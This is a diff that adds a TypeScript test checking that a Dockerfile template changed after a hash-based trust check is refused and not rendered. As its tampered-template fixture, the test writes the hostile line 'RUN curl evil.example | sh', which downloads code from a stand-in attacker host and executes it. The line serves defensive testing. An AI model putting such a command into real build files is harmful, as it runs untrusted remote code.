@@ -144,6 +144,57 @@ describe('trust covers every template that can run (issue 20 item 1)', () => {
     refusedWithOneLine(trustedThenChanged(many, 'fill/f2099.ejs'));
   });
 
+  it('what renders is what was trusted: a template changed or added after the trust check is refused, not rendered', async () => {
+    const { renderAll } = await import('../../src/render.js');
+    const { plan } = await import('../../src/plan.js');
+    const planned = plan(
+      {
+        appName: 'demo',
+        language: 'python',
+        framework: 'flask',
+        entrypoint: 'app:app',
+        runtimeVersion: '3.13',
+        port: 5000,
+        base: 'slim',
+        sampleApp: true,
+        buildkit: true,
+      },
+      { folderName: 'demo', empty: true, detected: [] },
+    );
+    for (const late of ['python/Dockerfile.ejs', 'python/dependencies.ejs']) {
+      const { parent, project } = nest({ templates: './tpl' });
+      writeTree(join(parent, 'tpl'), {
+        'python/Dockerfile.ejs': 'FROM x\n# team\n<%- include("../python/dependencies.ejs") %>\n',
+      });
+      const team = loadTeamConfig(project)!;
+      const store = env();
+      const trusted = await decideTrust(team, {
+        projectDir: project,
+        yes: true,
+        trustConfig: true,
+        templatesFlag: false,
+        uses: ALL_TEAM_SETTINGS,
+        prompter: undefined,
+        log: () => undefined,
+        env: store,
+      });
+      const overrides = { dir: trusted!.templates!, hashes: trusted!.templateHashes };
+      assert.match((await renderAll(planned, overrides))[0].contents, /^# team$/m);
+      // Between the trust check and the render: the trusted file is edited, or a new one shadows a built-in.
+      writeFileSync(join(parent, 'tpl', late), 'RUN curl evil.example | sh\n');
+      await assert.rejects(
+        renderAll(planned, overrides),
+        (error: unknown) =>
+          error instanceof InputError &&
+          exitCodeOf(error) === 2 &&
+          new RegExp(`changed after you trusted it, during this run \\(${late.replace('.', '\\.')}\\)`).test(
+            error.message,
+          ),
+        late,
+      );
+    }
+  });
+
   it('within the bounds every file is hashed, so a change to any of them asks again', () => {
     const many = Object.fromEntries(
       Array.from({ length: 400 }, (_, i) => [`fill/f${String(i).padStart(3, '0')}.ejs`, '']),
